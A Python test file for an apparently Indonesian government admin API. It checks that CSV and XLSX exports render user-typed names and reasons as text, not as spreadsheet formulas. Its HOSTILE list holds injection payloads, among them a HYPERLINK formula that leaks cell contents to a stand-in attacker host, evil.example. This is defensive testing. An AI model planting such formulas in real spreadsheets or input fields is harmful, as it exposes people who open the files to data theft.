"""Every CSV and XLSX the project writes opens as text in Excel and LibreOffice, never as a
formula, whatever people typed into names and reasons (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session

from admin_api import create_app
from core.evaluations import service as ev
from core.masterdata.models import Officer, Service, Unit
from core.people.models import Role
from core.shared.config import Settings
from core.shared.spreadsheet import csv_writer, is_risky, safe_text, unquote, write_row
from tests.factories import PASSWORD, add_response, local, make_user

# What a hostile (or unlucky) user types as a name or a reason.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?leak="&A1;"klik")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
)


def _no_formula_in(workbook_bytes: bytes) -> list[object]:
    """Every value of every sheet; fails on the first formula cell."""
    wb = load_workbook(io.BytesIO(workbook_bytes))
    values: list[object] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def _csv_cells(text: str) -> list[list[str]]:
    """The CSV's rows; fails on a cell a spreadsheet would run as a formula."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            if is_risky(cell):
                float(cell)  # only a number (-2.5) may begin with "-" or "+"
    return rows


# The helper ---------------------------------------------------------------------------------


def test_csv_cells_are_quoted_and_reversible_numbers_stay_numbers() -> None:
    typed = [*HOSTILE, "'=already quoted", "\uff1d1+1", "Dinas Kependudukan", "", -2.5, 7, None]
    buf = io.StringIO()
    writer = csv_writer(buf)
    writer.writerow(typed)
    [row] = _csv_cells(buf.getvalue())
    assert row[-3:] == ["-2.5", "7", ""]  # numbers are written as numbers
    assert [unquote(cell) for cell in row[:-3]] == typed[:-3]
    assert safe_text("=1") == "'=1" and safe_text("Kupang") == "Kupang"
    assert safe_text(-2) == -2


def test_xlsx_cells_are_strings_with_the_typed_text() -> None:
    typed = [*HOSTILE, "'=1", "plain", -2.5, 7]
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    write_row(ws, ["header"])
    write_row(ws, typed)
    buf = io.BytesIO()
    wb.save(buf)
    _no_formula_in(buf.getvalue())
    loaded = load_workbook(io.BytesIO(buf.getvalue())).active
    assert loaded is not None
    cells = next(loaded.iter_rows(min_row=2))
    # XML reads a carriage return back as a line feed; the cell is text all the same.
    assert [c.value for c in cells[:-2]] == [t.replace("\r", "\n") for t in typed[:-2]]
    assert [(c.value, c.data_type) for c in cells[-2:]] == [(-2.5, "n"), (7, "n")]
    assert all(c.quotePrefix for c in cells[: len(HOSTILE)])  # stays text when edited


# Through the API ----------------------------------------------------------------------------


@dataclass
class World:
    client: TestClient
    units: list[dict[str, object]]  # as the API returned them (names as stored)
    services: list[dict[str, object]]
    officers: list[dict[str, object]]


@pytest.fixture
def world(settings: Settings, engine: Engine) -> Iterator[World]:
    with Session(engine) as s:
        make_user(s, "admin", Role.admin)
        s.commit()
    with TestClient(create_app(settings, engine)) as client:
        token = client.post("/auth/token", data={"username": "admin", "password": PASSWORD})
        client.headers["Authorization"] = f"Bearer {token.json()['access_token']}"
        units, services, officers = [], [], []
        for i, name in enumerate(HOSTILE):
            u = client.post("/units", json={"code": f"u{i}", "name": name})
            sv = client.post("/services", json={"unit_code": f"u{i}", "name": name})
            nip = f"19850412201003{1 + i % 2}{i + 1:03d}"
            o = client.post("/officers", json={"nip": nip, "name": name, "unit_code": f"u{i}"})
            assert (u.status_code, sv.status_code, o.status_code) == (201, 201, 201), o.text
            units.append(u.json())
            services.append(sv.json())
            officers.append(o.json())
        with Session(engine) as s:
            for u, sv, o in zip(units, services, officers, strict=True):
                unit = s.get(Unit, u["id"])
                assert unit is not None
                add_response(
                    s,
                    unit,
                    [3, 3, 3, 3, 3, 4, 4, 3, 3],
                    local(date(2026, 11, 3)),
                    s.get(Service, sv["id"]),
                    s.get(Officer, o["id"]),
                )
            s.commit()
        yield World(client, units, services, officers)


def test_stored_names_still_look_like_formulas(world: World) -> None:
    """The hostile texts survive input cleaning, so the exports below are really tested."""
    for stored in (*world.units, *world.services, *world.officers):
        assert is_risky(str(stored["name"])), stored["name"]


def test_skm_report_has_no_formula_and_the_names_as_typed(world: World) -> None:
    for unit, service in zip(world.units, world.services, strict=True):
        r = world.client.get(
            f"/scores/units/{unit['code']}/report.xlsx", params={"start": "2026-11-01"}
        )
        assert r.status_code == 200
        values = _no_formula_in(r.content)
        assert unit["name"] in values and service["name"] in values
        wb = load_workbook(io.BytesIO(r.content))
        rows = {row[0]: row[1] for row in wb["IKM"].iter_rows(values_only=True) if row}
        assert rows["Unit"] == unit["name"]
        assert rows["Jumlah responden (n)"] == 1  # numbers stay numbers
        per_service = list(wb["Per layanan"].iter_rows(values_only=True))
        assert per_service[1][:2] == (service["name"], 1)


def _finalized_period(world: World, reasons: dict[int, str]) -> int:
    c = world.client
    created = c.post(
        "/evaluation-periods",
        json={
            "kind": "quarterly",
            "start": "2026-10-01",
            "unit_codes": [u["code"] for u in world.units],
        },
    )
    assert created.status_code == 201, created.text
    pid = int(created.json()["id"])
    detail = c.post(f"/evaluation-periods/{pid}/compute").json()
    for i, row in enumerate(sorted(detail["officers"], key=lambda r: r["nip"])):
        other = "below" if row["suggested_level"] != "below" else "above"
        decided = c.post(
            f"/evaluation-periods/{pid}/officers/{row['id']}/decision",
            json={
                "behaviour_level": other,
                "override_reason": HOSTILE[i],
                "results_level": "meets",
            },
        )
        assert decided.status_code == 200, decided.text
        reasons[row["officer_id"]] = decided.json()["override_reason"]
    # The quarter may not have ended yet on the day the tests run: an admin may finalize
    # early, giving a reason (a no-op once the quarter is over).
    final = c.post(f"/evaluation-periods/{pid}/finalize", json={"early_reason": "Uji ekspor."})
    assert final.status_code == 200, final.text
    return pid


def test_evaluation_exports_have_no_formula_and_the_texts_as_typed(world: World) -> None:
    reasons: dict[int, str] = {}
    pid = _finalized_period(world, reasons)
    names = {o["nip"]: o["name"] for o in world.officers}
    reason_by_nip = {o["nip"]: reasons[int(str(o["id"]))] for o in world.officers}
    assert all(is_risky(r) for r in reason_by_nip.values())
    column = {name: i for i, name in enumerate(ev.EXPORT_COLUMNS)}

    r = world.client.get(f"/evaluation-periods/{pid}/export.csv")
    assert r.status_code == 200
    header, *rows = _csv_cells(r.content.decode("utf-8-sig"))
    assert header == list(ev.EXPORT_COLUMNS) and len(rows) == len(HOSTILE)
    for row in rows:
        nip = row[column["nip"]]
        assert unquote(row[column["nama"]]) == names[nip]
        assert unquote(row[column["alasan_perubahan"]]) == reason_by_nip[nip]
        assert row[column["jumlah_responden"]] == "1"  # a number, not quoted text

    r = world.client.get(f"/evaluation-periods/{pid}/export.xlsx")
    assert r.status_code == 200
    _no_formula_in(r.content)
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    header_x, *rows_x = ev.xlsx_table(ws)
    assert list(header_x) == list(ev.EXPORT_COLUMNS) and len(rows_x) == len(HOSTILE)
    for values in rows_x:
        nip = str(values[column["nip"]])
        assert values[column["nama"]] == names[nip]
        assert values[column["alasan_perubahan"]] == reason_by_nip[nip]
        assert values[column["jumlah_responden"]] == 1
        assert isinstance(values[column["skor"]], int | float)  # a number, not text
